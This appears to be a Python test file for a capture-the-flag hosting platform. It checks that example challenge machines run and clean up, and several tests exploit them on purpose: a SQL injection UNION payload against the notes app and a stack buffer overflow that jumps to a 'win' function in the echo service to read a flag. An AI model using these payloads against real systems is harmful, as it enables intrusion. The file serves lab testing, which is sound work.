"""Each example template builds with no registry, starts, does what its README line says, and leaves nothing."""
import os
import re
import struct
import subprocess
from urllib.parse import quote

import pytest

from harness.gateway import dial, endpoint, fetch, read_until
from harness.leaks import Leaks
from harness.realtime import Ws
from harness.wait import until


@pytest.fixture(scope="module")
def examples(docker, debian, tmp_path_factory):
    from conftest import server_maker
    make, end, _ = server_maker(docker, tmp_path_factory.mktemp("examples"))
    server = make()
    for name in ("hello-web", "notes-stack", "echo-pwn", "debian-shell", "debian-desktop"):
        server.add_example(name)
    try:
        server.start()
        for name in ("hello-web", "echo-pwn", "debian-shell", "debian-desktop", "notes-stack"):
            server.admin().wait_template(name, timeout=600)
        yield server
    finally:
        end()


@pytest.fixture
def leaks(examples, docker):
    found = Leaks(examples, docker)
    yield found
    examples.admin().stop_all()
    found.assert_none(60)


@pytest.fixture
def player(examples, request):
    return examples.user(f"player-{request.node.name[:30]}")


def test_R1_2_the_catalogue_shows_all_of_them_without_a_complaint(examples):
    shown = {t["id"]: t for t in examples.admin().get("/templates").json["items"]}
    assert set(shown) == {"hello-web", "notes-stack", "echo-pwn", "debian-shell", "debian-desktop"}
    for template in shown.values():
        assert template["state"] == "ready" and not template["problems"], template
        assert template["description"] and template["lease"]["text"]
    assert shown["notes-stack"]["machines"] == 3


def test_R1_2_hello_web(player, leaks):
    instance = player.running("hello-web")
    url = endpoint(instance, kind="http")["url"]
    status, headers, body = fetch(url)
    assert status == 200 and b"This machine is yours" in body and headers["content-type"].startswith("text/html")
    assert fetch(url, "/flag.txt")[2].startswith(b"TILTYARD{")
    assert fetch(url, "/nothing")[0] == 404


def test_R1_3_notes_stack(player, leaks, docker):
    instance = player.running("notes-stack")
    url = endpoint(instance, kind="http")["url"]
    assert fetch(url, "/healthz")[2] == b"ok\n"
    status, headers, _ = fetch(url, "/", "POST", b"text=written+by+a+test", {"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 303 and headers["location"] == "/"
    assert b"written by a test" in fetch(url)[2]
    assert b"written by a test" in fetch(url, "/?q=by+a+test")[2]
    assert re.search(rb"shown \d+ times", fetch(url)[2]), "the cache counts"
    found = fetch(url, "/?q=" + quote("zz' UNION SELECT 'x', text FROM secret --"))[2]
    assert re.search(rb"TILTYARD\{[^}]+\}", found), "the way in is closed"
    made = docker.of_instance(instance["id"])
    assert len(made["containers"]) == 3 and len(made["volumes"]) == 1 and len(made["networks"]) == 2


def test_R1_2_echo_pwn(player, leaks, docker, tmp_path):
    instance = player.running("echo-pwn")
    tcp = endpoint(instance, kind="tcp")
    with dial(tcp) as connection:
        read_until(connection, b"\n")
        connection.sendall(b"hello there\n")
        assert read_until(connection, b"\n") == b"hello there\n"
    win = symbol(docker, docker.machine(instance["id"])["Id"], tmp_path)
    with dial(tcp) as connection:
        read_until(connection, b"\n")
        payload = b"A" * 88 + struct.pack("<Q", win) + b"\n"
        connection.sendall(payload)
        read_until(connection, b"\n")
        connection.sendall(b"cat /flag.txt; exit\n")
        assert b"TILTYARD{" in read_until(connection, b"}")


def symbol(docker, container, folder):
    """The address of `win` in the machine's program."""
    tar = folder / "echo.tar"
    tar.write_bytes(docker.call("GET", f"/containers/{container}/archive", {"path": "/srv/echo"}))
    subprocess.run(["tar", "-xf", tar, "-C", folder], check=True)
    listed = subprocess.run(["nm", folder / "echo"], check=True, capture_output=True, text=True).stdout
    return int(next(line.split()[0] for line in listed.splitlines() if line.endswith(" win")), 16)


def test_R1_2_debian_shell(player, leaks, tmp_path):
    instance = player.running("debian-shell")
    tcp = endpoint(instance, kind="tcp")
    ask = tmp_path / "ask"
    ask.write_text(f"#!/bin/sh\necho '{instance['credentials']['password']}'\n")
    ask.chmod(0o700)
    command = ["ssh", "-p", str(tcp["port"]), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
               "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10", f"{instance['credentials']['user']}@{tcp['host']}", "cat flag.txt; id -un"]
    ran = subprocess.run(command, env={**os.environ, "SSH_ASKPASS": str(ask), "SSH_ASKPASS_REQUIRE": "force"}, capture_output=True, text=True,
                         stdin=subprocess.DEVNULL, timeout=30)
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout.startswith("TILTYARD{") and ran.stdout.endswith("player\n")
    assert instance["credentials"]["user"] == "player"


def picture(screen, size):
    """All of the screen, 32 bits a pixel, as one raw picture (RFC 6143, 7.6.1 and 7.7.1)."""
    screen.send(b"\3\0" + struct.pack(">4H", 0, 0, *size))
    pixels = bytearray(size[0] * size[1] * 4)
    while True:
        kind, rectangles = struct.unpack(">BxH", screen.exactly(4))
        if kind != 0:
            raise AssertionError(f"message {kind} came")
        for _ in range(rectangles):
            left, top, wide, high, encoding = struct.unpack(">4Hi", screen.exactly(12))
            assert encoding == 0, encoding
            body = screen.exactly(wide * high * 4)
            for row in range(high):
                at = ((top + row) * size[0] + left) * 4
                pixels[at:at + wide * 4] = body[row * wide * 4:(row + 1) * wide * 4]
        return bytes(pixels)


class Screen:
    """A viewer that knows no password."""

    def __init__(self, server, caller, instance):
        grant = caller.post(f"/instances/{instance}/grants", {"kind": "desktop"}).expect(201).json["grant"]
        self.ws = Ws(server.port, f"/api/v1/instances/{instance}/desktop", {"Cookie": caller.cookie, "Origin": server.url}, timeout=60, EIO=None,
                     transport=None, grant=grant)
        assert self.ws.status == 101, self.ws.head
        self.bytes = b""
        assert self.exactly(12) == b"RFB 003.008\n"
        self.send(b"RFB 003.008\n")
        assert self.exactly(2) == b"\1\1"
        self.send(b"\1")
        assert self.exactly(4) == bytes(4)
        self.send(b"\1")
        head = self.exactly(24)
        self.size = struct.unpack(">2H", head[:4])
        self.name = self.exactly(int.from_bytes(head[20:24], "big")).decode()
        self.send(b"\2\0\0\1" + bytes(4))

    def send(self, data):
        self.ws.send(data)

    def exactly(self, size):
        while len(self.bytes) < size:
            self.bytes += self.ws.receive(60)
        taken, self.bytes = self.bytes[:size], self.bytes[size:]
        return taken

    def type(self, text):
        for letter in text:
            for down in (1, 0):
                self.send(struct.pack(">BBxxI", 4, down, 0xFF0D if letter == "\n" else ord(letter)))


def test_R3_2_debian_desktop(player, leaks, examples):
    instance = player.running("debian-desktop")
    assert player.template("debian-desktop")["desktop"] == {"kind": "vnc", "machine": "main"} and instance["endpoints"] == []
    screen = Screen(examples, player, instance["id"])
    assert (screen.size, screen.name) == ((1280, 800), "Debian desktop")
    until(lambda: len(set(picture(screen, screen.size))) > 20, "the terminal's window to be there", 30)
    screen.send(struct.pack(">BBHH", 5, 0, 300, 250))  # the pointer gives a window the keys
    screen.send(struct.pack(">BBHH", 5, 1, 300, 250) + struct.pack(">BBHH", 5, 0, 300, 250))

    def typed():
        screen.type("cp flag.txt seen\n")
        return player.post(f"/instances/{instance['id']}/exec", {"command": ["cat", "seen"]}).expect(200).json["stdout"].startswith("TILTYARD{")
    until(typed, "what is typed to reach the terminal", 30)

    def clicked():
        before = picture(screen, screen.size)
        for mask in (0, 4, 0):
            screen.send(struct.pack(">BBHH", 5, mask, 1200, 700))
        after = picture(screen, screen.size)
        return sum(one != other for one, other in zip(before[::4], after[::4])) > 2000
    until(clicked, "a click on the background to open its menu", 30)
    screen.ws.close()
